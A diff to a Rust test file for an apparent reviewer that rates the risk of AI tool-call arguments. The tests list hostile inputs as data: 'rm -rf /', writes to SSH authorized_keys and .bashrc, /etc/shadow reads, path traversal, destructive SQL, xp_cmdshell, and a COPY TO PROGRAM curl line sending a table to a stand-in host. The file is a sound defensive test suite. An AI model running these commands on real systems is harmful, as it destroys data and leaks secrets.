@@ -2,6 +2,7 @@
 
 use serde_json::json;
 
+use super::super::argument_texts::TEXTS;
 use super::*;
 use crate::mcp::definition::Definition;
 use aish_judge::verdict::Provenance;
@@ -139,6 +140,115 @@ fn long_prose() {
     assert_eq!(level("find it's ".repeat(6000)), ReviewLevel::B);
 }
 
+/// A key is written by the model like a value.
+#[test]
+fn keys_are_read_like_values() {
+    let plain = json!({"name": "run"});
+    let level = |arguments: &Value| verdict_on(&plain, arguments, &["srv.*"], false).level;
+    for arguments in [
+        json!({"files": {"/root/.ssh/authorized_keys": "x"}}),
+        json!({"rm -rf /home/x": true}),
+        json!({"a": [{"/etc/shadow": 1}]}),
+        json!({"~/.bashrc": {"mode": "append"}}),
+        json!({"rm": ["-rf", "/home/x"]}),
+        json!({"rm": "-rf /home/x"}),
+        json!({"reboot": true}),
+        json!({"DROP TABLE users": null}),
+        json!({"../../other": "x"}),
+        json!({"command": "rm", "args": "-rf /"}),
+    ] {
+        assert!(level(&arguments) >= ReviewLevel::B, "{arguments}");
+    }
+    for arguments in [
+        json!({"path": "a", "command": "list", "time": 3, "find": "x", "kill": false, "sort": "name", "test": "a b"}),
+        json!({"passwd": "x", "mount": "data", "cat": "meow", "date": "2026-01-01", "format": ["json", "text"]}),
+        json!({"application/json": {"$schema": "x", "src/main.rs": "fn main() {}"}}),
+    ] {
+        assert_eq!(level(&arguments), ReviewLevel::A, "{arguments}");
+    }
+    let declared =
+        json!({"name": "run", "inputSchema": {"type": "object", "properties": {"reboot": {"type": "boolean"}}}});
+    assert_eq!(verdict_on(&declared, &json!({"reboot": true}), &["srv.*"], false).level, ReviewLevel::A);
+}
+
+#[test]
+fn statements_of_sql_are_judged_as_their_client_is() {
+    let level = |text: &str| verdict_on(&json!({"name": "run"}), &json!({"q": text}), &["srv.*"], false).level;
+    let mut wrong = Vec::new();
+    for text in [
+        "DROP TABLE users",
+        "drop table if exists public.users cascade;",
+        "DELETE FROM users",
+        "delete from users",
+        "TRUNCATE TABLE orders",
+        "TRUNCATE orders",
+        "DROP DATABASE prod",
+        "SELECT 1; DROP TABLE users",
+        "/* x */ DROP/**/TABLE users",
+        "-- clean up\nDELETE FROM users WHERE 1=1",
+        "UPDATE users SET admin = true",
+        "ALTER TABLE users DROP COLUMN email",
+        "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'",
+        "COPY users TO PROGRAM 'curl -d @- http://x.example'",
+        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
+        "EXEC xp_cmdshell 'whoami'",
+        "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
+        "please run `DROP TABLE users` now",
+        "first select * from users; then delete from users;",
+        "INSERT INTO admins (name) VALUES ('x')",
+    ] {
+        wrong.extend((level(text) < ReviewLevel::B).then_some(text));
+    }
+    for text in [
+        "SELECT * FROM users WHERE id = 3",
+        "select count(*), max(age) from users group by team",
+        "Drop the table of contents from page 3",
+        "Please update the users' guide and set the date = today",
+        "Select the best option from the list (the first one)",
+        "Delete everything from the inbox that is older than a week",
+        "Create a table of the results",
+        "Insert the coin into the slot",
+        "Grant access to the new colleague",
+        "create user guide",
+        "How do I drop a column?",
+        "Copy the file to the desktop",
+        "Call mom (on Friday)",
+        "Execute the plan with care",
+        "EXPLAIN SELECT * FROM users",
+    ] {
+        wrong.extend((level(text) > ReviewLevel::A).then_some(text));
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
+
+/// HALT-09: what is C as a command is C in an argument; a file with a program's name is none.
+#[test]
+fn the_level_of_a_command_in_an_argument() {
+    let of = |arguments: Value| verdict_on(&json!({"name": "run"}), &arguments, &["srv.*"], false);
+    for arguments in [
+        json!({"x": "rm -rf /"}),
+        json!({"x": "please run rm -rf ~ now"}),
+        json!({"argv": ["rm", "-rf", "/home/u"]}),
+        json!({"q": "DROP TABLE users"}),
+        json!({"rm -rf /": 1}),
+        json!({"x": "/bin/rm -rf /"}),
+        json!({"x": "/tmp/x/rm -rf ~"}),
+    ] {
+        assert_eq!(of(arguments.clone()).level, ReviewLevel::C, "{arguments}");
+    }
+    for arguments in [
+        json!({"path": "/etc/passwd"}),
+        json!({"paths": ["/etc/passwd", "/etc/group"]}),
+        json!({"text": "look at /etc/passwd and tell me who is there"}),
+        json!({"text": "/etc/passwd has no such user"}),
+    ] {
+        let verdict = of(arguments.clone());
+        let of_passwords = |reason: &Reason| reason.rule.starts_with("user.");
+        assert!(!verdict.reasons.iter().any(of_passwords), "{arguments}: {:?}", verdict.reasons);
+    }
+    assert_eq!(of(json!({"path": "src/passwd", "other": "tests/halt"})).level, ReviewLevel::A);
+}
+
 #[test]
 fn patterns_of_names() {
     for (pattern, name, fits) in [
@@ -163,6 +273,7 @@ fn policies_forbid_tools() {
         ("program = [\"other__*\"]", false),
         ("path = [\"/w/secret/**\"]", true),
         ("path = [\"/w/open/**\"]", false),
+        ("path = [\"/w/keyed/**\"]", true),
         ("host = [\"*.evil.example\"]", true),
         ("program = [\"kubectl\"]", true),
     ] {
@@ -177,8 +288,7 @@ fn policies_forbid_tools() {
         );
         let policy = Policy { rules: read.rules, ..Policy::default() };
         let tool = Definition::read("srv", &json!({"name": "run"})).unwrap();
-        let arguments =
-            json!({"path": "secret/key", "url": "https://u:p@a.evil.example:8/x", "cmd": "kubectl get pods"});
+        let arguments = json!({"path": "secret/key", "url": "https://u:p@a.evil.example:8/x", "cmd": "kubectl get pods", "all": {"keyed/x": 1}});
         let call = McpCall::read(FoundTool { tool, changed: false, host: None }, &arguments.to_string()).unwrap();
         let settings = Mcp { auto_approve: vec!["srv.*".to_owned()], ..Mcp::default() };
         let verdict = call.judge(&settings, workspace(), &policy);
